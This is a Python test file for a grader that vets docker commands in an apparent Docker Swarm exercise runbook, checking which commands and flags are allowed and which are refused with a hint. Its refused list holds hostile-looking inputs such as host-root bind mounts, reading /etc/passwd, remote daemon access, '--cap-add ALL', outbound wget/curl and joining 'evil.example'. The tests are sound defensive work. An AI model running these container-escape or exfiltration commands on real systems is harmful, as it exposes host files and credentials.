"""Which docker commands of a runbook are run, and which flags and values they may have."""

from __future__ import annotations

import shlex

import pytest
from hypothesis import given
from hypothesis import strategies as st

from grader.vetting.docker_commands import FORMS
from grader.vetting.dockercli import MAX_TASKS, Vetted, vet
from grader.vetting.refusal import Refusal
from tests.unit import refusal

IMAGES = ("alpine:3", "alpine:latest", "nginx:1.22", "drydock/demo:1.0")


def look(line: str) -> Vetted:
    return vet(shlex.split(line), IMAGES)


def refused(line: str) -> Refusal:
    return refusal.of(look, line)


@pytest.mark.parametrize(
    "line",
    [
        "docker swarm init --advertise-addr ${MANAGER1_ADDR} --listen-addr=0.0.0.0:2377",
        "docker swarm join --token ${WORKER_TOKEN} ${MANAGER1_ADDR}:2377",
        "docker swarm join --token=${MANAGER_TOKEN} --advertise-addr eth0 ${WORKER1_ADDR}:2377",
        "docker swarm join-token -q worker",
        "docker node ls --format '{{.Hostname}}'",
        "docker node update --availability drain worker1",
        "docker service create --name web -p80:80 --replicas 3 nginx:1.22",
        "docker service create --name ping --init alpine ping ${WORKER1_ADDR}",
        "docker service create alpine:3 sh -c 'while true; do date; sleep 1; done'",
        "docker service create alpine:3 ping tasks.web",
        "docker service update --publish-add mode=host,published=8080,target=80 web",
        "docker service scale web=5 other=2",
        "docker service rm web other",
        "docker service ps web --no-trunc",
        "docker ps -aq",
        "docker container ls --filter name=web",
    ],
)
def test_what_the_exercise_is_about_is_run(line: str) -> None:
    look(line)


@pytest.mark.parametrize(
    "line",
    [
        "",
        "ls",
        "docker",
        "docker-machine ssh manager1",
        "docker run -v /:/host alpine:3 sh",
        "docker -H tcp://10.0.0.1:2375 ps",
        "docker --context other ps",
        "docker exec web sh",
        "docker cp web:/etc/passwd .",
        "docker plugin install x",
        "docker stack deploy -c stack.yaml x",
        "docker service create --mount type=bind,source=/,target=/host alpine:3",
        "docker service create --mount=type=bind,source=/,target=/host alpine:3",
        "docker service create --env-file /etc/passwd alpine:3",
        "docker service create --secret x alpine:3",
        "docker service create --cap-add ALL alpine:3",
        "docker service create --network host alpine:3",
        "docker service create --network=name=host,alias=x alpine:3",
        "docker service create busybox",
        "docker service create alpine@sha256:0000",
        "docker service create registry.example:5000/alpine:3",
        "docker service create --replicas 100000 alpine:3",
        "docker service create --mode global-job alpine:3",
        "docker service create --name drydock-probe alpine:3",
        "docker service create alpine:3 ping docker.com",
        "docker service create alpine:3 ping 8.8.8.8",
        "docker service create alpine:3 sh -c 'wget -O- http://example.org/x'",
        "docker service create --entrypoint 'ping docker.com' alpine:3",
        "docker service create --health-cmd 'curl http://example.org' nginx:1.22",
        "docker service update --args 'ping docker.com' x",
        "docker service update --image busybox web",
        "docker service update --mount-add type=bind,source=/,target=/host web",
        "docker service scale web=21",
        "docker service rm web drydock-probe",
        "docker service logs -f web",
        "docker service logs --follow web",
        "docker swarm join --token SWMTKN-1-abc-def ${MANAGER1_ADDR}:2377",
        "docker swarm join --token ${WORKER_TOKEN} 203.0.113.7:2377",
        "docker swarm join --token ${WORKER_TOKEN} evil.example:2377",
        "docker swarm init --advertise-addr 192.168.1.5",
        "docker swarm init --autolock",
        "docker service create --name",
        "docker ps -z",
    ],
)
def test_all_else_is_refused_with_a_remedy(line: str) -> None:
    refused(line)


def test_flags_are_read_in_every_form_that_docker_takes() -> None:
    forms = [
        "docker service create --name web --publish 80 -d -q alpine:3 ls -l",
        "docker service create --name=web -p 80 -dq alpine:3 ls -l",
        "docker service create --name=web -p80 --detach --quiet -- alpine:3 ls -l",
        "docker service create --name=web -p=80 -dq alpine:3 ls -l",
    ]
    for line in forms:
        found = look(line)
        assert found.value("--name") == "web"
        assert found.value("--publish") == "80"
        assert {"--detach", "--quiet"} <= {name for name, _ in found.flags}
        assert found.words == ("alpine:3", "ls", "-l")


def test_flags_behind_the_image_belong_to_the_tasks_command() -> None:
    found = look("docker service create alpine:3 sleep --mount 5")
    assert found.words == ("alpine:3", "sleep", "--mount", "5")


def test_detach_goes_where_it_has_the_last_word() -> None:
    for line, expected in {
        "docker service create -d=false alpine:3 ping -c 5 x": "-d=false --detach alpine:3",
        "docker service create --name x -- alpine:3": "x --detach -- alpine:3",
        "docker service scale web=5 --detach=false": "--detach=false --detach",
        "docker service update --replicas 3 web": "web --detach",
    }.items():
        words = shlex.split(line)
        at = look(line).detach_at
        assert at is not None
        assert expected in " ".join([*words[:at], "--detach", *words[at:]])
    assert look("docker service rm web").detach_at is None


def test_a_slip_is_told_what_was_meant() -> None:
    assert "docker service create" in refused("docker service crate alpine:3").hint
    assert "--replicas" in refused("docker service create --replica 3 alpine:3").hint
    assert "alpine:3" in refused("docker service create alpine:4").hint
    assert "docker service create" in refused("docker run alpine:3").hint
    assert str(MAX_TASKS) in refused("docker service scale web=500").hint
    assert "${WORKER_TOKEN}" in refused("docker swarm join --token SWMTKN-1-x a:1").hint


_WORDS = st.one_of(
    st.sampled_from([w for form in FORMS.values() for w in form.flags]),
    st.sampled_from([w for name in FORMS for w in name.split()]),
    st.sampled_from(["-v", "--", "--mount", "/:/host", "alpine:3", "busybox", "run", "=", "a=b"]),
    st.text(max_size=8),
)


@given(st.lists(_WORDS, max_size=10))
def test_whatever_is_typed_is_taken_or_refused_and_only_known_flags_are_taken(
    words: list[str],
) -> None:
    try:
        found = vet(["docker", *words], IMAGES)
    except Refusal:
        return
    assert all(name in FORMS[found.command].flags for name, _ in found.flags)
    assert "run" not in found.command.split()
    if found.command == "service create" and found.words:
        assert found.words[0].partition("@")[0].removeprefix("docker.io/library/") in (
            *IMAGES,
            "alpine",
        )


@given(st.lists(_WORDS, max_size=6))
def test_no_mount_gets_through(words: list[str]) -> None:
    words = ["docker", "service", "create", "--mount", "type=bind,source=/,target=/x", *words]
    with pytest.raises(Refusal):
        vet(words, IMAGES)
